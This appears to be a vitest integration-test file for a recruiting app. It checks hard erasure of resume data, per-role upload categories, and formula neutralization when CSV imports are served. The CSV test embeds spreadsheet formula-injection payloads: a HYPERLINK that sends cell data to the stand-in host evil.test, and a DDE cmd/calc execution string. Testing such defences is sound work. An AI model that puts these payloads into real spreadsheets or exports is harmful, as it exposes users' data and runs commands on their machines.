import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../helpers/app.ts';
import { json, register, uploadPresigned, uploadStreamed, waitForScan, type Session } from '../helpers/api.ts';
import { PNG_1X1 } from '../helpers/documents.ts';

/** What erasure leaves of a candidate, which categories a candidate may upload, and how CSV imports are served. */
let t: TestApp;
let recruiter: Session;
let candidate: Session;
let jobId: string;

beforeAll(async () => {
  t = await startTestApp();
  recruiter = await register(t, { role: 'recruiter', orgName: 'Safety Co' });
  candidate = await register(t, { role: 'candidate' });
  const job = await t.fetch('/api/v1/jobs', {
    method: 'POST',
    headers: { ...recruiter.headers, 'content-type': 'application/json' },
    body: JSON.stringify({ title: 'Go Engineer', description: 'Go and Kubernetes services.', skills: ['Go', 'Kubernetes'] }),
  });
  jobId = (await json(job)).id;
});
afterAll(async () => t?.close());

describe('hard erasure of a candidate’s resume', () => {
  it('clears every column read or derived from the file, the sha256 and the score breakdown included', async () => {
    const form = new FormData();
    form.append(
      'file',
      new Blob([
        Buffer.from(
          'Erin Erased\nerin@example.test | +1 415 555 0199\n\nExperience\nEngineer, Example Corp 2015 - 2022\nBuilt Go services on Kubernetes.\n\nSkills\nGo, Kubernetes\n',
        ),
      ]),
      'erin.txt',
    );
    const added = await t.fetch(`/api/v1/jobs/${jobId}/candidates`, { method: 'POST', headers: recruiter.headers, body: form });
    expect(added.status, await added.clone().text()).toBe(202);
    const { id, file_id: fileId } = await json(added);
    const deadline = Date.now() + 30_000;
    let scored: any;
    do scored = await json(await t.fetch(`/api/v1/candidates/${id}`, { headers: recruiter.headers }));
    while (scored.status !== 'scored' && Date.now() < deadline && (await new Promise((resolve) => setTimeout(resolve, 100)), true));
    expect(scored.status).toBe('scored');
    expect(scored.score_breakdown).not.toBeNull();

    expect((await t.fetch(`/api/v1/files/${fileId}?hard=true`, { method: 'DELETE', headers: recruiter.headers })).status).toBe(204);

    const row = await t.runtime.db.selectFrom('candidates').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
    expect(row.deleted_at).not.toBeNull();
    expect({
      sha256: row.sha256,
      score_breakdown: row.score_breakdown,
      score: row.score,
      scorer: row.scorer,
      name: row.name,
      email: row.email,
      phone: row.phone,
      phone_valid: row.phone_valid,
      links: row.links,
      skills: row.skills,
      skill_parents: row.skill_parents,
      skill_evidence: row.skill_evidence,
      experience_years: row.experience_years,
      text_source: row.text_source,
      resume_text: row.resume_text,
      original_filename: row.original_filename,
    }).toEqual({
      sha256: null,
      score_breakdown: null,
      score: null,
      scorer: null,
      name: null,
      email: null,
      phone: null,
      phone_valid: null,
      links: null,
      skills: [],
      skill_parents: [],
      skill_evidence: null,
      experience_years: null,
      text_source: null,
      resume_text: null,
      original_filename: null,
    });
    expect((await t.fetch(`/api/v1/candidates/${id}`, { headers: recruiter.headers })).status).toBe(404);
  });
});

describe('categories a candidate may upload', () => {
  it('refuses logo and csv_import from a candidate on both upload paths, and takes resumes and cover letters', async () => {
    const csv = Buffer.from('name,email\nAda,ada@example.test\n');
    for (const [category, bytes, filename, type] of [
      ['logo', PNG_1X1, 'logo.png', 'image/png'],
      ['csv_import', csv, 'people.csv', 'text/csv'],
    ] as const) {
      const streamed = await uploadStreamed(t, candidate, { bytes, filename, category });
      expect(streamed.status, await streamed.clone().text()).toBe(403);
      expect((await json(streamed)).code).toBe('category_not_allowed');
      const { initiate } = await uploadPresigned(t, candidate, { bytes, filename, category, type });
      expect(initiate.status).toBe(403);
      expect((await json(initiate)).code).toBe('category_not_allowed');
    }
    const resume = await uploadStreamed(t, candidate, { bytes: Buffer.from('Cora Candidate\ncora@example.test\n'), filename: 'cv.txt', category: 'resume' });
    expect(resume.status).toBe(201);
    const letter = await uploadStreamed(t, candidate, {
      bytes: Buffer.from('Dear hiring team,\nI would like to apply.\n'),
      filename: 'letter.txt',
      category: 'cover_letter',
    });
    expect(letter.status).toBe(201);
    expect((await uploadStreamed(t, recruiter, { bytes: csv, filename: 'people.csv', category: 'csv_import' })).status).toBe(201);
  });
});

describe('CSV imports', () => {
  it('are served with formula cells neutralized, whatever the request asks for', async () => {
    const hostile = 'name,note\r\n=HYPERLINK("http://evil.test/?"&A1;"x"),+cmd|\' /C calc\'!A0\r\n@SUM(1;2),-1+1\r\n"\t=1+1","\r=2"\r\nAda,plain\r\n';
    const upload = await uploadStreamed(t, recruiter, { bytes: Buffer.from(hostile), filename: 'import.csv', category: 'csv_import' });
    expect(upload.status, await upload.clone().text()).toBe(201);
    const fileId = (await json(upload)).id;
    expect((await waitForScan(t, recruiter, fileId)).status).toBe('clean');

    const expected =
      'name,note\r\n\'=HYPERLINK("http://evil.test/?"&A1;"x"),\'+cmd|\' /C calc\'!A0\r\n\'@SUM(1;2),\'-1+1\r\n"\'\t=1+1","\'\r=2"\r\nAda,plain\r\n';
    const content = await t.fetch(`/api/v1/files/${fileId}/content`, { headers: recruiter.headers });
    expect(content.status).toBe(200);
    expect(content.headers.get('content-type')).toContain('text/csv');
    expect(await content.text()).toBe(expected);

    // A range would cut the neutralized representation anywhere: the whole body is sent instead.
    const ranged = await t.fetch(`/api/v1/files/${fileId}/content`, { headers: { ...recruiter.headers, range: 'bytes=11-20' } });
    expect(ranged.status).toBe(200);
    expect(await ranged.text()).toBe(expected);

    const etag = content.headers.get('etag')!;
    expect((await t.fetch(`/api/v1/files/${fileId}/content`, { headers: { ...recruiter.headers, 'if-none-match': etag } })).status).toBe(304);
  });
});
